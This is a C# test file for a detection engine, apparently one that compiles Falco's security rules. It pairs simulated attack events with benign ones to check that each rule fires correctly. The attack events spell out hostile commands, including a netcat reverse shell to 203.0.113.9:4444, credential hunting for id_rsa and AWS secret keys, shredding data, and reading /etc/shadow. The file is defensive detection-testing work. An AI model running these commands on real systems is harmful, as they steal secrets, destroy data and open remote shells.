using Harrier.Events;

namespace Harrier.Rules.Tests;

/// <summary>Falco's stable rules, compiled by Harrier, fire on the behaviour they describe (host events).</summary>
public class FalcoBehaviourTests
{
    private static readonly Lazy<CompiledRuleSet?> Set = new(() =>
        TestPaths.FalcoRules is { } path ? RuleLoader.Load(new[] { path }).RuleSet : null);

    private static readonly ProcessInfo Login = Ev.Proc("sshd", "/usr/sbin/sshd", pid: 5, uid: 0);
    private static readonly ProcessInfo Shell = Ev.Proc("bash", "/usr/bin/bash", parent: Login, pid: 10);

    private static ProcessInfo P(string name, string exe, params string[] args) => Ev.Proc(name, exe, args, Shell, pid: 30);

    private static List<string> Fired(HarrierEvent e)
    {
        var matches = new List<RuleMatch>();
        Set.Value!.CreateEvaluator().Evaluate(new[] { e }, matches);
        return matches.Select(m => m.Rule.Name).ToList();
    }

    public static TheoryData<string, Func<HarrierEvent>, Func<HarrierEvent>> Cases => new()
    {
        { "Search Private Keys or Passwords", () => Ev.Exec(P("find", "/usr/bin/find", "/", "-name", "id_rsa")), () => Ev.Exec(P("find", "/usr/bin/find", "/", "-name", "notes.txt")) },
        { "Find AWS Credentials", () => Ev.Exec(P("grep", "/usr/bin/grep", "-r", "aws_secret_access_key", "/home")), () => Ev.Exec(P("grep", "/usr/bin/grep", "-r", "TODO", "/home")) },
        { "Remove Bulk Data from Disk", () => Ev.Exec(P("shred", "/usr/bin/shred", "-u", "/data/db")), () => Ev.Exec(P("rm", "/usr/bin/rm", "/tmp/x")) },
        { "Clear Log Activities", () => Ev.Open(P("bash", "/usr/bin/bash"), "/var/log/auth.log", 0x241), () => Ev.Open(P("bash", "/usr/bin/bash"), "/var/log/auth.log", 0x441) },
        { "Create Symlink Over Sensitive Files", () => Ev.Symlink(P("ln", "/usr/bin/ln"), "/etc/shadow", "/tmp/s"), () => Ev.Symlink(P("ln", "/usr/bin/ln"), "/etc/hostname", "/tmp/s") },
        { "PTRACE attached to process", () => Ev.Priv(P("inject", "/tmp/inject"), EventType.Ptrace, init: e => e.Request = 16), () => Ev.Priv(P("inject", "/tmp/inject"), EventType.Ptrace, init: e => e.Request = 1) },
        { "PTRACE anti-debug attempt", () => Ev.Priv(P("malware", "/tmp/m"), EventType.Ptrace, init: e => e.Request = 0), () => Ev.Priv(P("malware", "/tmp/m"), EventType.Ptrace, init: e => e.Request = 16) },
        { "Execution from /dev/shm", () => Ev.Exec(P("/dev/shm/x", "/dev/shm/x")), () => Ev.Exec(P("x", "/usr/bin/x")) },
        { "Fileless execution via memfd_create", () => Ev.Exec(P("x", "memfd:payload")), () => Ev.Exec(P("x", "/usr/bin/x")) },
        { "Read sensitive file untrusted", () => Ev.Open(P("python3", "/usr/bin/python3"), "/etc/shadow"), () => Ev.Open(P("python3", "/usr/bin/python3"), "/etc/hosts") },
    };

    private static ProcessInfo InContainer(ProcessInfo p, string id = "0123456789ab")
    {
        p.ContainerId = id;
        return p;
    }

    private static PrivilegeEvent DupSocketOnto(ProcessInfo p, long newFd, int family)
        => Ev.Priv(p, EventType.Dup2, init: e =>
        {
            e.Target = 3;
            e.Target2 = newFd;
            e.Res = newFd;
            e.FdIsSocket = true;
            e.FdSocketFamily = family;
            if (family == 2)
            {
                e.FdLocal = SockAddress.FromIP(System.Net.IPAddress.Parse("10.1.2.3"), 40000);
                e.FdRemote = SockAddress.FromIP(System.Net.IPAddress.Parse("203.0.113.9"), 4444);
                e.FdName = "10.1.2.3:40000->203.0.113.9:4444";
            }
            else
            {
                e.FdName = "socket:[77]";
            }
        });

    private static NetworkEvent Socket(ProcessInfo p, int domain)
    {
        var e = Ev.Connect(p, "203.0.113.9", 80);
        e.Type = EventType.Socket;
        e.Domain = domain;
        e.SockType = 3;
        e.Local = default;
        e.Remote = default;
        e.Res = 4;
        return e;
    }

    private static FileEvent OpenAfter(ProcessInfo p, string path, ulong secondsAfterStart)
    {
        p.StartNs = 1_000_000_000;
        var e = Ev.Open(p, path);
        e.KTimeNs = p.StartNs + (secondsAfterStart * 1_000_000_000);
        return e;
    }

    private static ProcessInfo Terminal(ProcessInfo p, int tty)
    {
        p.Tty = tty;
        return p;
    }

    private static ProcessInfo As(ProcessInfo p, uint uid, string user)
    {
        p.Uid = uid;
        p.UserName = user;
        return p;
    }

    public static TheoryData<string, Func<HarrierEvent>, Func<HarrierEvent>> ContainerAndUserCases => new()
    {
        { "Redirect STDOUT/STDIN to Network Connection in Container", () => DupSocketOnto(InContainer(P("bash", "/usr/bin/bash")), 1, 2), () => DupSocketOnto(P("bash", "/usr/bin/bash"), 1, 2) },
        { "Redirect STDOUT/STDIN to Network Connection in Container", () => DupSocketOnto(InContainer(P("bash", "/usr/bin/bash")), 0, 2), () => DupSocketOnto(InContainer(P("bash", "/usr/bin/bash")), 0, 1) },
        { "Netcat Remote Code Execution in Container", () => Ev.Exec(InContainer(P("nc", "/usr/bin/nc", "-e", "/bin/sh", "203.0.113.9", "4444"))), () => Ev.Exec(P("nc", "/usr/bin/nc", "-e", "/bin/sh", "203.0.113.9", "4444")) },
        { "Netcat Remote Code Execution in Container", () => Ev.Exec(InContainer(P("ncat", "/usr/bin/ncat", "--sh-exec", "id", "h", "1"))), () => Ev.Exec(InContainer(P("ncat", "/usr/bin/ncat", "-l", "1"))) },
        { "Packet socket created in container", () => Socket(InContainer(P("python3", "/usr/bin/python3")), 17), () => Socket(InContainer(P("python3", "/usr/bin/python3")), 2) },
        { "Terminal shell in container", () => Ev.Exec(Terminal(InContainer(Ev.Proc("bash", "/usr/bin/bash", parent: Ev.Proc("runc", pid: 7), pid: 41)), 34816)), () => Ev.Exec(InContainer(Ev.Proc("bash", "/usr/bin/bash", parent: Ev.Proc("runc", pid: 7), pid: 41))) },
        { "System user interactive", () => Ev.Exec(As(P("login", "/usr/bin/login"), 1, "daemon")), () => Ev.Exec(P("login", "/usr/bin/login")) },
        { "Read sensitive file trusted after startup", () => OpenAfter(P("nginx", "/usr/sbin/nginx"), "/etc/shadow", 60), () => OpenAfter(P("nginx", "/usr/sbin/nginx"), "/etc/shadow", 1) },
    };

    [Theory]
    [MemberData(nameof(ContainerAndUserCases))]
    public void FalcoRule_ContainerAndUserRules_FireOnBehaviour_NotOnBenign(string rule, Func<HarrierEvent> attack, Func<HarrierEvent> benign)
        => FalcoRule_FiresOnBehaviour_NotOnBenign(rule, attack, benign);

    [FalcoRulesFact]
    public void FalcoRules_ShellOnHost_NotTerminalShellInContainer()
    {
        // "Terminal shell in container" needs a container: on the host it stays quiet.
        var e = Ev.Exec(Ev.Proc("bash", "/usr/bin/bash", parent: Login, pid: 40));
        Assert.DoesNotContain("Terminal shell in container", Fired(e));
    }

    [Theory]
    [MemberData(nameof(Cases))]
    public void FalcoRule_FiresOnBehaviour_NotOnBenign(string rule, Func<HarrierEvent> attack, Func<HarrierEvent> benign)
    {
        if (Set.Value is null)
        {
            return; // Falco's rules are not beside the checkout: FalcoAcceptanceTests reports the skip.
        }

        Assert.Contains(rule, Fired(attack()));
        Assert.DoesNotContain(rule, Fired(benign()));
    }
}
